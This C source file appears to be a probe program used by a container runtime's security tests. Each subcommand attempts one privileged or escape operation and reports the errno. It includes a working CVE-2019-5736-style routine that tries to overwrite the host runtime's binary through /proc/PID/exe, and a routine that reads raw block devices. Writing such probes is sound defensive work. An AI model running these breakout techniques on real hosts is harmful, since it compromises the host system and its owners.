/* secprobe: attempts run inside test containers by the security and
 * breakout tests. Each attempt prints one line "NAME: OK" or
 * "NAME: ERRNAME" (EPERM, EACCES, ...) and the program exits 0, so a test
 * reads exactly what the kernel answered. Static, libc only.
 *
 *   secprobe syscall NR [ARG...]        raw syscall: "syscall NR: ret=R" or errno
 *   secprobe unshare FLAGS              FLAGS: user,mnt,net,pid,ipc,uts,cgroup or a number
 *   secprobe clone-ns FLAGS             clone(2) with namespace flags, child exits at once
 *   secprobe mount                      tmpfs on /tmp/secprobe-mnt
 *   secprobe remount PATH               remount PATH read-write (MS_REMOUNT)
 *   secprobe keyctl | bpf | kexec | module | syslog
 *   secprobe ptrace PID                 PTRACE_ATTACH (detached again on success)
 *   secprobe write FILE DATA            open O_WRONLY + write
 *   secprobe read FILE [N]              open O_RDONLY + read N bytes (default 1)
 *   secprobe mknod-read PATH MAJ MIN    mknod a block device, then open and read it
 *   secprobe cwd                        getcwd and whether "/" is reachable from "."
 *   secprobe fds                        every open fd and what it points to
 *   secprobe pids                       the PIDs visible in /proc
 *   secprobe exe-overwrite SECONDS      for SECONDS, try to open for writing the exe
 *                                       of any process running a binary from outside
 *                                       the container (CVE-2019-5736 style)
 *   secprobe int80 NR [ARG...]          raw syscall through the i386 entry point
 *                                       (int $0x80, x86_64 only): "int80 NR: ret=R"
 *   secprobe socketcall FAMILY TYPE     socket() the i386 way, socketcall(SYS_SOCKET)
 *                                       through int $0x80, arguments in memory
 *   secprobe socketpair FAMILY TYPE     raw socketpair(FAMILY, TYPE, 0) (FAMILY: all
 *                                       64 bits of the register)
 *   secprobe io_uring                   io_uring_setup with 4 entries
 *   secprobe ptrace-child               fork a child, PTRACE_ATTACH it, detach
 *   secprobe vm-readv                   process_vm_readv of our own memory */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, long r)
{
        if (r < 0)
                printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
        else
                printf("%s: OK\n", what);
        fflush(stdout);
        return 0;
}

static long num(const char *s)
{
        return (long)strtoull(s, NULL, 0);
}

static long ns_flags(const char *s)
{
        static const struct {
                const char *n;
                long f;
        } t[] = {{"user", CLONE_NEWUSER},    {"mnt", CLONE_NEWNS},  {"net", CLONE_NEWNET},
                 {"pid", CLONE_NEWPID},      {"ipc", CLONE_NEWIPC}, {"uts", CLONE_NEWUTS},
                 {"cgroup", CLONE_NEWCGROUP}};
        long f = 0;
        char *copy = strdup(s), *save = NULL;
        for (char *tok = strtok_r(copy, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
                size_t i;
                for (i = 0; i < sizeof t / sizeof t[0]; i++)
                        if (strcmp(t[i].n, tok) == 0)
                                break;
                f |= i < sizeof t / sizeof t[0] ? t[i].f : num(tok);
        }
        free(copy);
        return f;
}

static int do_syscall(int argc, char **argv)
{
        long a[6] = {0};
        for (int i = 0; i < 6 && i + 3 < argc; i++)
                a[i] = num(argv[i + 3]);
        long r = syscall(num(argv[2]), a[0], a[1], a[2], a[3], a[4], a[5]);
        if (r < 0)
                return report(argv[2], r);
        printf("%s: ret=%ld\n", argv[2], r);
        return 0;
}

static int do_clone_ns(const char *flags)
{
        long r = syscall(SYS_clone, ns_flags(flags) | SIGCHLD, 0, 0, 0, 0);
        if (r == 0)
                _exit(0);
        if (r > 0)
                waitpid((pid_t)r, NULL, 0);
        return report("clone-ns", r);
}

static int do_bpf(void)
{
        union bpf_attr attr;
        memset(&attr, 0, sizeof attr);
        attr.map_type = BPF_MAP_TYPE_ARRAY;
        attr.key_size = 4;
        attr.value_size = 4;
        attr.max_entries = 1;
        long r = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
        if (r >= 0)
                close((int)r);
        return report("bpf", r);
}

static int do_module(void)
{
        /* Refused before the image is looked at without CAP_SYS_MODULE;
         * with it, an empty image fails with ENOEXEC/EFAULT instead. */
        report("init_module", syscall(SYS_init_module, NULL, 0, ""));
        return report("finit_module", syscall(SYS_finit_module, 0, "", 0));
}

static int do_ptrace(const char *pid)
{
        long r = ptrace(PTRACE_ATTACH, (pid_t)num(pid), NULL, NULL);
        report("ptrace", r);
        if (r == 0) {
                waitpid((pid_t)num(pid), NULL, __WALL);
                ptrace(PTRACE_DETACH, (pid_t)num(pid), NULL, NULL);
        }
        return 0;
}

static int do_write(const char *path, const char *data)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return report("open", -1);
        report("open", 0);
        long r = write(fd, data, strlen(data));
        close(fd);
        return report("write", r);
}

static int do_read(const char *path, size_t n)
{
        char buf[4096];
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return report("open", -1);
        report("open", 0);
        long r = read(fd, buf, n < sizeof buf ? n : sizeof buf);
        close(fd);
        return report("read", r);
}

static int do_mknod_read(const char *path, const char *maj, const char *min)
{
        if (mknod(path, S_IFBLK | 0600, makedev((unsigned)num(maj), (unsigned)num(min))) < 0)
                return report("mknod", -1);
        report("mknod", 0);
        do_read(path, 512);
        unlink(path);
        return 0;
}

static int do_cwd(void)
{
        char buf[4096];
        struct stat dot, root;
        if (!getcwd(buf, sizeof buf))
                return report("getcwd", -1);
        printf("cwd: %s\n", buf);
        /* Walk up from "."; inside the root the walk ends at "/". */
        int fd = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
        for (int i = 0; i < 64 && fd >= 0; i++) {
                int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
                close(fd);
                fd = up;
        }
        stat("/", &root);
        fstat(fd, &dot);
        printf("top-is-root: %s\n",
               dot.st_dev == root.st_dev && dot.st_ino == root.st_ino ? "yes" : "no");
        return 0;
}

static int list_dir(const char *dir, int (*each)(const char *name))
{
        DIR *d = opendir(dir);
        struct dirent *e;
        if (!d)
                return report(dir, -1);
        while ((e = readdir(d)))
                if (e->d_name[0] != '.')
                        each(e->d_name);
        closedir(d);
        return 0;
}

static int print_fd(const char *name)
{
        char path[64], target[4096];
        snprintf(path, sizeof path, "/proc/self/fd/%s", name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = '\0';
        printf("fd %s: %s\n", name, target);
        return 0;
}

static int print_pid(const char *name)
{
        if (name[0] >= '0' && name[0] <= '9')
                printf("pid %s\n", name);
        return 0;
}

/* The CVE-2019-5736 attack: find processes in the container running a
 * binary that is not from the container's own filesystem (the runtime
 * entering it for exec), keep an O_PATH handle on their /proc/PID/exe, and
 * try to reopen it for writing through /proc/self/fd until time is up. A
 * write succeeds only when the runtime left its host binary exposed. */
#define MAX_HANDLES 64

/* An exe is foreign when its path, looked up inside our root, is not the
 * same file (a host binary: the runtime). */
static int foreign_exe(const char *pid)
{
        char path[300], target[4096];
        struct stat st, inside;
        snprintf(path, sizeof path, "/proc/%s/exe", pid);
        int h = open(path, O_PATH | O_CLOEXEC);
        if (h < 0)
                return -1;
        ssize_t n = readlink(path, target, sizeof target - 1);
        target[n > 0 ? n : 0] = '\0';
        if (fstat(h, &st) < 0 || (n > 0 && stat(target, &inside) == 0 &&
                                  inside.st_dev == st.st_dev && inside.st_ino == st.st_ino)) {
                close(h);
                return -1;
        }
        return h;
}

static bool try_write(int h)
{
        char fdpath[64];
        snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", h);
        int w = open(fdpath, O_WRONLY | O_CLOEXEC);
        if (w < 0)
                return false;
        /* Prove the write; the test runs a throwaway copy of the runtime.
         * A sealed memfd opens for writing but refuses the write. */
        bool wrote = write(w, "PWNED", 5) == 5;
        close(w);
        return wrote;
}

static int do_exe_overwrite(const char *secs)
{
        int handles[MAX_HANDLES], n = 0, found = 0;
        long attempts = 0;
        time_t end = time(NULL) + num(secs);
        while (time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *e;
                while (d && (e = readdir(d)))
                        if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && n < MAX_HANDLES) {
                                int h = foreign_exe(e->d_name);
                                if (h >= 0) {
                                        handles[n++] = h;
                                        found++;
                                }
                        }
                if (d)
                        closedir(d);
                for (int i = 0; i < n; i++, attempts++)
                        if (try_write(handles[i])) {
                                printf("exe-overwrite: OK\n");
                                return 0;
                        }
        }
        printf("exe-overwrite: refused (%d foreign exe handles, %ld attempts)\n", found, attempts);
        return 0;
}

#ifdef __x86_64__
static sigjmp_buf no_int80;

static void on_segv(int sig)
{
        (void)sig;
        siglongjmp(no_int80, 1);
}

/* The i386 ABI from a 64-bit process: number in eax, arguments in ebx, ecx,
 * edx, esi, edi, ebp (truncated to 32 bits); the kernel sees
 * AUDIT_ARCH_I386. A kernel without IA-32 emulation (or with it turned
 * off) has no gate at vector 0x80: the instruction faults, reported as
 * "NO_I386_ENTRY". */
static long int80(long nr, const long *a)
{
        long ret;
        __asm__ volatile("push %%rbp\n\tmov %[a5], %%rbp\n\tint $0x80\n\tpop %%rbp"
                         : "=a"(ret)
                         : "a"(nr), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]),
                           "D"(a[4]), [a5] "m"(a[5])
                         : "memory", "r8", "r9", "r10", "r11");
        return ret;
}

#define NO_I386_ENTRY (-100000L)

static long int80_guarded(long nr, const long *a)
{
        struct sigaction sa = {.sa_handler = on_segv}, old;
        sigaction(SIGSEGV, &sa, &old);
        long r = sigsetjmp(no_int80, 1) ? NO_I386_ENTRY : int80(nr, a);
        sigaction(SIGSEGV, &old, NULL);
        return r;
}

static int report_raw(const char *what, long r)
{
        if (r == NO_I386_ENTRY) {
                printf("%s: NO_I386_ENTRY\n", what);
                return 0;
        }
        if (r < 0 && r > -4096) {
                errno = (int)-r;
                return report(what, -1);
        }
        printf("%s: ret=%ld\n", what, r);
        return 0;
}

static int do_int80(int argc, char **argv)
{
        long a[6] = {0};
        for (int i = 0; i < 6 && i + 3 < argc; i++)
                a[i] = num(argv[i + 3]);
        char what[64];
        snprintf(what, sizeof what, "int80 %s", argv[2]);
        return report_raw(what, int80_guarded(num(argv[2]), a));
}

/* socketcall(SYS_SOCKET, args): the arguments are read from memory, which
 * must lie below 4 GiB for a 32-bit pointer. */
static int do_socketcall(const char *family, const char *type)
{
        unsigned *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (args == MAP_FAILED)
                return report("socketcall", -1);
        args[0] = (unsigned)num(family);
        args[1] = (unsigned)num(type);
        args[2] = 0;
        long a[6] = {1 /* SYS_SOCKET */, (long)(unsigned long)args};
        long r = int80_guarded(102 /* i386 socketcall */, a);
        if (r >= 0)
                close((int)r);
        return report_raw("socketcall", r < 0 ? r : 0);
}
#endif

static int do_socketpair(const char *family, const char *type)
{
        int sv[2];
        long r = syscall(SYS_socketpair, num(family), num(type), 0, sv);
        if (r == 0) {
                close(sv[0]);
                close(sv[1]);
        }
        return report("socketpair", r);
}

static int do_io_uring(void)
{
        char params[120]; /* struct io_uring_params, zeroed */
        memset(params, 0, sizeof params);
        long r = syscall(425 /* io_uring_setup */, 4, params);
        if (r >= 0)
                close((int)r);
        return report("io_uring_setup", r);
}

static int do_ptrace_child(void)
{
        pid_t child = fork();
        if (child == 0) {
                pause();
                _exit(0);
        }
        long r = ptrace(PTRACE_ATTACH, child, NULL, NULL);
        report("ptrace-child", r);
        if (r == 0) {
                waitpid(child, NULL, __WALL);
                ptrace(PTRACE_DETACH, child, NULL, NULL);
        }
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        return 0;
}

static int do_vm_readv(void)
{
        char src[] = "secret", dst[sizeof src] = "";
        struct iovec local = {dst, sizeof dst}, remote = {src, sizeof src};
        long r = process_vm_readv(getpid(), &local, 1, &remote, 1, 0);
        if (r >= 0 && strcmp(dst, src) != 0) {
                printf("vm-readv: read the wrong bytes\n");
                return 0;
        }
        return report("vm-readv", r);
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        const char *c = argc > 1 ? argv[1] : "";
        if (!strcmp(c, "syscall") && argc > 2)
                return do_syscall(argc, argv);
        if (!strcmp(c, "unshare") && argc > 2)
                return report("unshare", unshare((int)ns_flags(argv[2])));
        if (!strcmp(c, "clone-ns") && argc > 2)
                return do_clone_ns(argv[2]);
        if (!strcmp(c, "mount")) {
                mkdir("/tmp/secprobe-mnt", 0755);
                long r = mount("none", "/tmp/secprobe-mnt", "tmpfs", 0, NULL);
                if (r == 0)
                        umount("/tmp/secprobe-mnt");
                return report("mount", r);
        }
        if (!strcmp(c, "remount") && argc > 2)
                return report("remount", mount(NULL, argv[2], NULL, MS_REMOUNT, NULL));
        if (!strcmp(c, "keyctl"))
                return report("keyctl", syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, "probe"));
        if (!strcmp(c, "bpf"))
                return do_bpf();
        if (!strcmp(c, "kexec"))
                return report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
        if (!strcmp(c, "module"))
                return do_module();
        if (!strcmp(c, "syslog"))
                return report("syslog", syscall(SYS_syslog, 5 /* CLEAR */, NULL, 0));
        if (!strcmp(c, "ptrace") && argc > 2)
                return do_ptrace(argv[2]);
        if (!strcmp(c, "write") && argc > 3)
                return do_write(argv[2], argv[3]);
        if (!strcmp(c, "read") && argc > 2)
                return do_read(argv[2], argc > 3 ? (size_t)num(argv[3]) : 1);
        if (!strcmp(c, "mknod-read") && argc > 4)
                return do_mknod_read(argv[2], argv[3], argv[4]);
        if (!strcmp(c, "cwd"))
                return do_cwd();
        if (!strcmp(c, "fds"))
                return list_dir("/proc/self/fd", print_fd);
        if (!strcmp(c, "pids"))
                return list_dir("/proc", print_pid);
        if (!strcmp(c, "exe-overwrite") && argc > 2)
                return do_exe_overwrite(argv[2]);
#ifdef __x86_64__
        if (!strcmp(c, "int80") && argc > 2)
                return do_int80(argc, argv);
        if (!strcmp(c, "socketcall") && argc > 3)
                return do_socketcall(argv[2], argv[3]);
#endif
        if (!strcmp(c, "socketpair") && argc > 3)
                return do_socketpair(argv[2], argv[3]);
        if (!strcmp(c, "io_uring"))
                return do_io_uring();
        if (!strcmp(c, "ptrace-child"))
                return do_ptrace_child();
        if (!strcmp(c, "vm-readv"))
                return do_vm_readv();
        fprintf(stderr, "usage: see the comment at the top of tests/helper/secprobe.c\n");
        return 2;
}
